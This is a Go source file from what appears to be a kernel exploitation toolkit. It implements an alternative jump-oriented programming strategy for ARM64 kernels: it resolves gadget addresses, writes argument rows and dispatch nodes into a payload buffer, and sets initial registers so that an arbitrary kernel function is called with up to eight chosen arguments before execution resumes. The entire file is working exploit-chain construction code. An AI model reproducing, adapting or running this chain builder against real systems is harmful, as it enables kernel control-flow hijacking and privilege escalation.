package jop

import (
	"ktsim/internal/gadget"
	"ktsim/internal/kerrors"
)

// Strategy2 is strategy1.go's register bootstrap rebuilt against a second
// set of save/recover gadgets (mov_x28_x2__blr_x8 and mov_x21_x5__blr_x8 in
// place of mov_x21_x2__br_x8 and mov_x22_x6__blr_x8, store_resume_2 in place
// of store_resume_1) for kernel builds where strategy 1's exact gadget set
// isn't fully present. The row layout (apart from row0's x5 slot, see
// buildStrategy2), argument relay and capacity are otherwise identical to
// Strategy1.
var Strategy2 = Strategy{
	Name: "strategy2",
	RequiredGadgets: []string{
		gadget.Dispatch, gadget.MovX12X2BrX3, gadget.MovX2X30BrX12,
		gadget.MovX8X4BrX5, gadget.MovX28X2BlrX8, gadget.MovX20X0BlrX8,
		gadget.MovX10X4BrX8, gadget.MovX9X10BrX8, gadget.MovX11X9BrX8,
		gadget.LoadRow, gadget.MovX21X5BlrX8, gadget.AddX20X34BrX8,
		gadget.MovX12X3BrX8, gadget.MovX0X5BlrX8, gadget.MovX9X0BrX11,
		gadget.MovX7X9BlrX11, gadget.MovX0X3BlrX8, gadget.MovX1X9MovX2X10BlrX11,
		gadget.GadgetInvokeFunc, gadget.StoreResume2, gadget.MovX30X28BrX8,
		gadget.Ret,
	},
	PayloadSize:   s1PayloadSize,
	StackArgBytes: 0,
	MaxArgs:       8,
	Build:         buildStrategy2,
}

func resolveS2Gadgets(a BuildArgs) (s1Gadgets, error) {
	names := []string{
		gadget.Dispatch, gadget.MovX12X2BrX3, gadget.MovX2X30BrX12,
		gadget.MovX8X4BrX5, gadget.MovX28X2BlrX8, gadget.MovX20X0BlrX8,
		gadget.MovX10X4BrX8, gadget.MovX9X10BrX8, gadget.MovX11X9BrX8,
		gadget.LoadRow, gadget.MovX21X5BlrX8, gadget.AddX20X34BrX8,
		gadget.MovX12X3BrX8, gadget.MovX0X5BlrX8, gadget.MovX9X0BrX11,
		gadget.MovX7X9BlrX11, gadget.MovX0X3BlrX8, gadget.MovX1X9MovX2X10BlrX11,
		gadget.GadgetInvokeFunc, gadget.StoreResume2, gadget.MovX30X28BrX8,
		gadget.Ret,
	}
	addrs := make([]uint64, len(names))
	for i, n := range names {
		v, ok := a.Gadgets.Resolve(n)
		if !ok {
			return s1Gadgets{}, kerrors.New(kerrors.FunctionalityUnavailable, "strategy2: %s gadget not resolved", n)
		}
		addrs[i] = v
	}
	return s1Gadgets{
		dispatch: addrs[0], movX12X2BrX3: addrs[1], movX2X30BrX12: addrs[2],
		movX8X4BrX5: addrs[3], movX21X2BrX8: addrs[4], movX20X0BlrX8: addrs[5],
		movX10X4BrX8: addrs[6], movX9X10BrX8: addrs[7], movX11X9BrX8: addrs[8],
		loadRow: addrs[9], movX22X6BlrX8: addrs[10], addX20X34BrX8: addrs[11],
		movX12X3BrX8: addrs[12], movX0X5BlrX8: addrs[13], movX9X0BrX11: addrs[14],
		movX7X9BlrX11: addrs[15], movX0X3BlrX8: addrs[16], movX1X9MovX2X10BlrX11: addrs[17],
		invokeFunc: addrs[18], storeResume: addrs[19], movX30X21BrX8: addrs[20],
		ret: addrs[21],
	}, nil
}

// buildStrategy2 mirrors buildStrategy1's row/node layout; the gadget
// identities feeding the s1Gadgets struct differ (resolveS2Gadgets swaps in
// mov_x28_x2__blr_x8, mov_x21_x5__blr_x8, store_resume_2 and
// mov_x30_x28__br_x8 for their strategy-1 counterparts), and so does row0's
// x5 slot: it holds the store_resume_2 self-pointer's address, which node 5
// (mov_x21_x5__blr_x8) carries into x21 the way strategy 1 carries row0's
// x6 slot into x22.
func buildStrategy2(a BuildArgs, buf []byte) (BuildResult, error) {
	g, err := resolveS2Gadgets(a)
	if err != nil {
		return BuildResult{}, err
	}

	base := a.PayloadAddr
	args := padArgs(a.Args, 8)

	putU64(buf, s1Row0, 0)
	putU64(buf, s1Row0+8, 0)
	putU64(buf, s1Row0+0x10, base+s1SelfPtr)
	putU64(buf, s1Row0+0x18, base+s1SelfPtr)

	putU64(buf, s1Row1, a.Func)
	putU64(buf, s1Row1+8, 0)
	putU64(buf, s1Row1+0x10, args[7])
	putU64(buf, s1Row1+0x18, 0)

	putU64(buf, s1Row2, args[1])
	putU64(buf, s1Row2+8, args[2])
	putU64(buf, s1Row2+0x10, args[0])
	putU64(buf, s1Row2+0x18, 0)

	putU64(buf, s1Row3, args[3])
	putU64(buf, s1Row3+8, args[4])
	putU64(buf, s1Row3+0x10, args[5])
	putU64(buf, s1Row3+0x18, args[6])

	putU64(buf, s1SelfPtr, base+s1SelfPtr)
	putU64(buf, s1SelfDispatch, g.dispatch)

	node := func(i int) uint64 { return base + s1JopStackStart + uint64(i*s1NodeSize) }
	n := 0
	write := func(target uint64) {
		next := node(n + 1)
		writeNode(buf, s1JopStackStart+n*s1NodeSize, target, next)
		n++
	}

	write(g.movX20X0BlrX8)
	write(g.movX10X4BrX8)
	write(g.movX9X10BrX8)
	write(g.movX11X9BrX8)
	write(g.loadRow)
	write(g.movX22X6BlrX8) // mov_x21_x5__blr_x8 in this strategy's gadget set
	write(g.addX20X34BrX8)
	write(g.loadRow)
	write(g.movX12X3BrX8)
	write(g.movX0X5BlrX8)
	write(g.movX9X0BrX11)
	write(g.movX7X9BlrX11)
	write(g.addX20X34BrX8)
	write(g.loadRow)
	write(g.movX0X3BlrX8)
	write(g.movX9X0BrX11)
	write(g.movX10X4BrX8)
	write(g.movX1X9MovX2X10BlrX11)
	write(g.movX0X5BlrX8)
	write(g.addX20X34BrX8)
	write(g.loadRow)
	write(g.invokeFunc)
	write(g.storeResume)    // store_resume_2
	write(g.movX30X21BrX8) // mov_x30_x28__br_x8 in this strategy's gadget set
	writeNode(buf, s1JopStackStart+n*s1NodeSize, g.ret, 0)

	var initial InitialState
	initial.PC = g.movX12X2BrX3
	initial.X[0] = base
	initial.X[1] = node(0)
	initial.X[2] = g.movX8X4BrX5
	initial.X[3] = g.movX2X30BrX12
	initial.X[4] = g.dispatch
	initial.X[5] = g.movX21X2BrX8 // mov_x28_x2__blr_x8 in this strategy's gadget set

	return BuildResult{Initial: initial, ResultAddr: base + s1ResultSlot}, nil
}
